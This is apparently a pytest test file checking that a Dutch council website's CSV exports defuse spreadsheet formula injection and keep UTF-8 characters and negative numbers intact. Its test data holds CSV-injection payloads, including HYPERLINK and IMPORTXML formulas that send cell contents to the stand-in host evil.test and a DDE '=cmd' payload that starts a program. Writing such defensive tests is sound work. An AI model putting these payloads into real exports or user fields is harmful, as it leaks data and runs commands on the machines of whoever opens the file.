"""Every CSV export is safe to open in a spreadsheet (OWASP "CSV injection").

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel and LibreOffice. Text typed by users (an organisation's name, a
project title, an action, a leader's name, a measurement's source) must reach the
spreadsheet as text: prefixed with ``'``. Numbers the site writes itself (a measured
value of -5) stay numbers. The file starts with a UTF-8 byte order mark so Excel
shows Dutch characters as they are.
"""

import csv
import io
import json
from datetime import date
from decimal import Decimal
from http import HTTPStatus

import pytest
from django.urls import reverse

from ketenoverleg.exports import BOM, csv_response, spreadsheet_safe
from projects.models import Project
from tests.actionpackages.factories import (
    IndicatorFactory,
    MeasurementFactory,
    open_package,
    sign_for,
    signer,
)
from tests.factories import UserFactory
from tests.members.factories import MembershipFactory
from tests.projects.factories import IssueFactory, ProjectFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.test/?x="&A1,"klik")'
PAYLOADS = [HYPERLINK, "+31 50 123", "-2+3", "@SUM(A1:A9)", "\tTab & Co", "\r=1+1"]
DUTCH = "Coöperatie Één & Zoën"


def cells(response) -> list[list[str]]:
    """The CSV as a spreadsheet reads it: after the byte order mark."""
    content = response.content.decode("utf-8")
    assert content.startswith(BOM), "the CSV starts with a UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(content.removeprefix(BOM))))


def assert_no_formula_from(rows: list[list[str]], typed: list[str]) -> None:
    """No cell starts like a formula; each typed payload is there, as text."""
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    flat = [cell for row in rows for cell in row]
    for payload in typed:
        assert any(cell.startswith("'" + payload) for cell in flat), payload


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("=1+1", "'=1+1"),
        ("+31 50", "'+31 50"),
        ("-5", "'-5"),
        ("@risk", "'@risk"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        (DUTCH, DUTCH),
        ("", ""),
        (None, ""),
        (["=a", "b"], "'=a; b"),
        (Decimal("-5.000"), Decimal("-5.000")),
        (-5, -5),
    ],
)
def test_spreadsheet_safe_prefixes_text_that_starts_like_a_formula(value, expected):
    assert spreadsheet_safe(value) == expected


def test_a_negative_number_written_by_the_site_stays_a_number():
    response = csv_response(
        filename="x.csv", header=["bron", "waarde"], rows=[["-5", Decimal("-5.000")]]
    )

    assert cells(response)[1] == ["'-5", "-5.000"]


def test_the_ledenlijst_csv_neutralises_member_texts(client, council):
    for name in [*PAYLOADS, DUTCH]:
        MembershipFactory(
            council=council,
            organisation__name=name,
            organisation__place="=Stad",
            organisation__intention_text="@intentie",
        )

    response = client.get(reverse("members:ledenlijst_csv", kwargs={"slug": council.slug}))

    assert response.status_code == HTTPStatus.OK
    rows = cells(response)
    assert_no_formula_from(rows, [*PAYLOADS, "=Stad", "@intentie"])
    assert DUTCH in [row[0] for row in rows]  # ö, É and ë survive the round trip


def test_the_ledenlijst_json_keeps_the_names_as_typed(client, council):
    MembershipFactory(council=council, organisation__name=HYPERLINK)

    response = client.get(reverse("members:ledenlijst_json", kwargs={"slug": council.slug}))

    assert [m["naam"] for m in json.loads(response.content)["leden"]] == [HYPERLINK]


def test_the_signatories_csv_neutralises_names_and_actions(client, council):
    package = open_package(council)
    first = package.actions.first()
    first.text = '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")'
    first.save(update_fields=["text"])
    for name in PAYLOADS:
        user, organisation = signer(council, [first.geleding], name=name)
        sign_for(package, user, organisation)

    response = client.get(
        reverse("signatories_data", kwargs={"slug": council.slug, "pk": package.pk, "fmt": "csv"})
    )

    assert response.status_code == HTTPStatus.OK
    assert_no_formula_from(cells(response), [*PAYLOADS, first.text])


def test_the_measurements_csv_neutralises_texts_and_keeps_negative_values(client, council):
    indicator = IndicatorFactory(
        package__council=council,
        name=HYPERLINK,
        unit="+kg",
        baseline_value=Decimal("-5"),
        baseline_on=date(2024, 1, 1),
    )
    MeasurementFactory(
        indicator=indicator, measured_on=date(2024, 4, 1), value=Decimal("-2.5"), source="@bron"
    )

    response = client.get(reverse("measurements_data", kwargs={"slug": council.slug, "fmt": "csv"}))

    assert response.status_code == HTTPStatus.OK
    header, *rows = cells(response)
    value = header.index("waarde")
    texts = [[cell for i, cell in enumerate(row) if i != value] for row in rows]
    assert_no_formula_from([header, *texts], [HYPERLINK, "+kg", "@bron"])
    # The values are numbers the site writes from a number field: they stay numbers.
    assert [row[value] for row in rows] == ["-5.000", "-2.500"]


def test_the_projectlijst_csv_neutralises_titles_and_the_leader(client, council):
    leader = UserFactory(first_name="=cmd|' /C calc'!A0", last_name="")
    ProjectFactory(
        council=council,
        status=Project.Status.LOPEND,
        title=HYPERLINK,
        issue=IssueFactory(council=council, title="-1+1"),
        leader=leader,
    )

    response = client.get(reverse("projects:projects_csv", kwargs={"slug": council.slug}))

    assert response.status_code == HTTPStatus.OK
    assert_no_formula_from(cells(response), [HYPERLINK, "-1+1", "=cmd|' /C calc'!A0"])
